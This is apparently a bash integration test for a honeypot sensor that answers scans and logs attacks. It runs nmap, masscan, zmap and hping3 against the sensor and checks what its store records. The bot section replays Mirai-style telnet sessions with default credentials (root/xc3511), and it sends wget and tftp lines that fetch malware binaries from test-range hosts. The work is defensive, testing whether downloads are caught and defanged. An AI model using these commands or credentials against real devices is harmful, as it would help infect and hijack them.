#!/bin/bash
# The responder and real clients: what they see of it, and what the store holds of them.
#
# Topology: sensor.sh. Below it a second pair for a block that is on-link (near, sensor2).
#
# In:  TEITEN, TEITEN_QUERY: the programs.
# Out: a line for each check; exit status 0, 1 (a check failed), or 77 (skipped).
# shellcheck source=test/netns/sensor.sh
. "$(dirname "$0")/sensor.sh"
# shellcheck source=test/netns/dialogue.sh
. "$(dirname "$0")/dialogue.sh"

need tcpdump tcpreplay jq telnet curl nmap masscan zmap hping3
front
front6
record scanner out wire.pcap
start_sensor heard --addresses $block,$block6 --respond
start_sensor passive --addresses $block,$block6

# curl_status URL [OPTION...]: the HTTP status; the body is in $scratch/body.
curl_status() {
    within scanner curl -sg --max-time 20 -o "$scratch/body" -w '%{http_code}' "$@"
}

# ---- HTTP ----
same "curl reads a page, content with its end" "200 0" "$(curl_status http://198.18.1.20/cgi; echo " $?")"
check "the page has a body" grep -q '<title>' "$scratch/body"
same "the first page wants a login" 401 "$(curl_status http://198.18.1.20/)"
same "which is accepted" 200 "$(curl_status -u admin:admin http://198.18.1.20/)"
same "curl reads a page over IPv6" "200 0" "$(curl_status 'http://[2001:db8:1::20]/cgi'; echo " $?")"
same "a request with a body is heard" 200 \
    "$(curl_status -d 'cmd=wget http://192.0.2.9/bins/x.mips' http://198.18.1.20/cgi)"

# ---- Telnet: a bot, after facts of Mirai's source ----
bot() { # LINE...: logs in as root, gives the lines, each after a prompt
    open_talk plain 198.18.1.23 23
    hear $'\xff\xfd\x1f' || return
    say '\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0'
    hear 'login: ' && say 'root\r\n' && hear 'Password: ' && say 'xc3511\r\n' && hear '# ' || return
    local line
    for line in "$@"; do
        say "${line//%/%%}\\r\\n"
        hear '# ' || return
    done
}
bot enable system shell sh '/bin/busybox MIRAI'
check "the bot's token is no applet" eval '[[ $talk == *"MIRAI: applet not found"* ]]'
close_talk
bot '/bin/busybox ps; /bin/busybox ECCHI' 'cat /proc/mounts; /bin/busybox ECCHI' \
    "echo -e '\\\\x6b\\\\x61\\\\x6d\\\\x69' > /tmp/.nippon; cat /tmp/.nippon; rm /tmp/.nippon; /bin/busybox ECCHI" \
    '/bin/busybox wget http://192.0.2.9:8080/bins/x.arm7 -O - > dvrHelper; /bin/busybox ECCHI' \
    'tftp -g -r x.mips 198.18.0.1'
check "the loader reads back what it wrote" eval '[[ $talk == *kami* ]]'
check "the loader's token is no applet" eval '[[ $talk == *"ECCHI: applet not found"* ]]'
close_talk

# ---- Telnet: the client of inetutils ----
for address in 198.18.1.24 2001:db8:1::24; do
    open_talk client telnet $address
    hear 'login: ' && say 'admin\n' && hear 'Password: ' && say 'smcadmin\n' && hear '# ' &&
        say 'id\n' && hear '# ' && say 'exit\n'
    check "telnet to $address finds a device" eval '[[ $talk == *"uid=0(root)"* ]]'
    check "which shows the name that is typed, and no password" \
        eval '[[ $talk == *"login: admin"* && $talk != *smcadmin* ]]'
    close_talk
done

# ---- Scanners ----
within scanner nmap -n -Pn -sS --max-retries 1 -p 23 -oG "$scratch/nmap" 198.18.1.31 >/dev/null
check "nmap -sS finds telnet open" grep -q '23/open/tcp//telnet' "$scratch/nmap"
within scanner timeout 100 nmap -n -Pn -sV --version-intensity 2 -p 23 -oG "$scratch/nmap" 198.18.1.32 >/dev/null
check "nmap -sV calls it telnet" grep -q '23/open/tcp//telnet' "$scratch/nmap"
within scanner nmap -n -Pn -6 -sS --max-retries 1 -p 23 -oG "$scratch/nmap" 2001:db8:1::31 >/dev/null
check "nmap -6 -sS finds telnet open" grep -q '23/open/tcp//telnet' "$scratch/nmap"
# masscan looks at its time-outs only when packets come, as they always do outside of a test.
within sensor bash -c 'while sleep 0.1; do echo >/dev/udp/198.18.0.1/9; done' 2>/dev/null &
murmur=$!
within scanner timeout 60 masscan 198.18.1.40/30 -p23,80 --banners --rate 100 --wait 4 --adapter out \
    --source-ip 198.18.0.77 --source-port 61000 --router-mac ${sensor_mac//:/-} -oL "$scratch/masscan" \
    >/dev/null 2>&1
kill "$murmur"
same "masscan finds all ports open" 8 "$(grep -c '^open tcp' "$scratch/masscan")"
check "masscan --banners reads telnet's" grep -q '^banner tcp 23 .*telnet.*login' "$scratch/masscan"
check "masscan --banners reads http's" grep -q '^banner tcp 80 .*HTTP/1.1 401' "$scratch/masscan"
: >"$scratch/empty"
within scanner timeout 60 zmap -q -p 80 -i out -G $sensor_mac -S 198.18.0.1 -b "$scratch/empty" -B 1M -c 2 \
    -o "$scratch/zmap" 198.18.1.48/29 >/dev/null 2>&1
same "zmap sees each address respond" 8 "$(sort -u "$scratch/zmap" | grep -c '^198\.18\.1\.')"
within scanner hping3 -n -S -p 2323 -c 3 -i u100000 198.18.1.60 >"$scratch/hping" 2>/dev/null
same "hping3 sees SYN and ACK" 3 "$(grep -c 'flags=SA' "$scratch/hping")"

# ---- Two phases: a SYN without options, then a connection ----
within scanner hping3 -n -S -p 80 -c 1 198.18.1.70 >/dev/null 2>&1
curl_status http://198.18.1.70/ >/dev/null

# ---- What is never answered ----
for flags in -A -F -R -SA -SF -SR -FPU -Y; do
    within scanner hping3 -n $flags -p 23 -c 2 -i u50000 198.18.1.200 >/dev/null 2>&1
done
within scanner hping3 -n --udp -p 53 -c 3 -i u50000 198.18.1.201 >/dev/null 2>&1
within scanner hping3 -n --icmp -c 3 -i u50000 198.18.1.202 >/dev/null 2>&1

# The client's last packets, and ours, are over when the sensors have stopped.
stop_sensor heard
stop_sensor passive
stop_records
for case in "200 segments that fit nothing" "201 UDP" "202 ICMP"; do
    between "tcpdump sees ${case#* }" 3 100 "$(matching wire.pcap "dst host 198.18.1.${case%% *}")"
    same "${case#* } gets no answer" 0 "$(matching wire.pcap "src host 198.18.1.${case%% *}")"
done
same "nothing but TCP ever comes from the block" 0 \
    "$(matching wire.pcap "(src net $block or src net $block6) and not tcp")"
same "no connection is opened from the block" 0 \
    "$(matching wire.pcap "src net $block and tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn")"

# ---- What the store holds ----
at() { echo "dst = unhex('00000000000000000000FFFF$(printf %02X 198 18 1 "$1")')"; }
bot_is=$(at 23)
same "the bot's logins" $'root\txc3511\t1\t2' \
    "$(ask heard "SELECT \"user\", password, accepted, count(*) FROM @logins WHERE $bot_is GROUP BY ALL")"
same "the bot's first lines" "enable system shell sh /bin/busybox MIRAI" \
    "$(ask heard "SELECT text FROM @commands WHERE $bot_is ORDER BY time LIMIT 5" | paste -sd' ')"
same "all lines of both" 10 "$(ask heard "SELECT count(*) FROM @commands WHERE $bot_is")"
same "the tokens" "ECCHI 4,MIRAI 1" \
    "$(ask heard "SELECT token || ' ' || count(*) FROM @commands WHERE $bot_is AND token <> ''
        GROUP BY token ORDER BY token" | paste -sd,)"
same "the downloads" "wget http://192.0.2.9:8080/bins/x.arm7 192.0.2.9 x.arm7 arm7 0,tftp tftp://198.18.0.1/x.mips 198.18.0.1 x.mips mips 1" \
    "$(ask heard "SELECT concat_ws(' ', method, url, host, file, cpu, host_is_source) FROM @downloads
        WHERE $bot_is ORDER BY time" | paste -sd,)"
same "the same, asked of teiten" "root xc3511 2" "$("$TEITEN" show logins --store "$scratch/heard" --json |
    jq -r '.rows[] | select(.password == "xc3511") | "\(.user) \(.password) \(.tries)"')"
same "and defanged" 'hxxp://192[.]0[.]2[.]9:8080/bins/x.arm7' "$("$TEITEN" show downloads --store "$scratch/heard" --json |
    jq -r '.rows[] | select(.cpu == "arm7") | .url')"
same "what a request asks to fetch" "http://192.0.2.9/bins/x.mips" \
    "$(ask heard "SELECT url FROM @downloads WHERE $(at 20)")"
same "logins over IPv6 and IPv4" 2 "$(ask heard "SELECT count(*) FROM @logins WHERE password = 'smcadmin'")"
same "a regular connection after an irregular SYN is two-phase" "1 1" \
    "$(ask heard "SELECT concat_ws(' ', count(*), sum(two_phase)) FROM @conversations WHERE $(at 70)")"
same "without such a SYN it is not" 0 \
    "$(ask heard "SELECT sum(two_phase)::BIGINT FROM @conversations WHERE $(at 20)")"
same "the count of two-phase scans is that of the conversations" \
    "$(ask heard "SELECT sum(two_phase)::BIGINT FROM @conversations")" "$(said heard 'two-phase scans')"
same "each proven handshake is a conversation" "$(said heard 'handshakes proven')" \
    "$(ask heard "SELECT count(*) FROM @conversations")"
check "the segments are whole" segments_are_whole heard

# ---- The same traffic, the same accesses ----
towards="dst net $block or dst net $block6"
tcpdump -nr "$scratch/wire.pcap" -w "$scratch/towards.pcap" "$towards" 2>/dev/null
accesses=$(covered heard accesses)
same "accesses of the live sensor that does not answer" "$accesses" "$(covered passive accesses)"
observe_file() { # NAME OPTION...
    local name=$1
    shift
    "$TEITEN" observe -q -r "$scratch/towards.pcap" --addresses $block,$block6 --geo none --store "$scratch/$name" "$@"
}
observe_file file
same "accesses of the clients' packets, read as a file" "$accesses" "$(covered file accesses)"
observe_file answered --answered
same "accesses of the file, where the hosts answered" "$accesses" "$(covered answered accesses)"
same "received is what tcpdump saw" "$(matching wire.pcap "$towards")" "$(covered heard 'received - not_monitored')"
between "accesses" 50 400 "$accesses"

# ---- A block that is on-link: somebody must answer for it ----
#     near: out 198.18.2.1/24, 2001:db8:2::1/64  ---  sensor2: in, the block 198.18.2.128/25, 2001:db8:2:0:8000::/65
namespace near
namespace sensor2
wire near out sensor2 in
within near sysctl -qw net.ipv6.conf.out.accept_dad=0 net.ipv6.conf.out.autoconf=0 \
    net.ipv6.conf.out.router_solicitations=0 net.ipv6.conf.out.disable_ipv6=0
within near ip addr add 198.18.2.1/24 dev out
within near ip addr add 2001:db8:2::1/64 dev out nodad
sensor_in=sensor2
near_status() { within near curl -sg --max-time "$1" -o /dev/null -w '%{http_code}' "$2"; }
record near out near.pcap
start_sensor unasked --addresses 198.18.2.128/25,2001:db8:2:0:8000::/65 --respond
same "without being asked it answers no ARP" 000 "$(near_status 2 http://198.18.2.129/)"
same "nor neighbour solicitations" 000 "$(near_status 2 'http://[2001:db8:2:0:8000::1]/')"
stop_sensor unasked
stop_records
same "tcpdump sees no answer" 0 "$(matching near.pcap "arp[6:2] == 2 or icmp6[0] == 136")"
within near ip neigh flush dev out
start_sensor asked --addresses 198.18.2.128/25,2001:db8:2:0:8000::/65 --respond --answer-neighbours
same "asked, it answers ARP" 200 "$(near_status 20 http://198.18.2.129/cgi)"
same "and neighbour solicitations" 200 "$(near_status 20 'http://[2001:db8:2:0:8000::1]/cgi')"
same "but not for others" 000 "$(near_status 2 http://198.18.2.9/)"
stop_sensor asked
finish
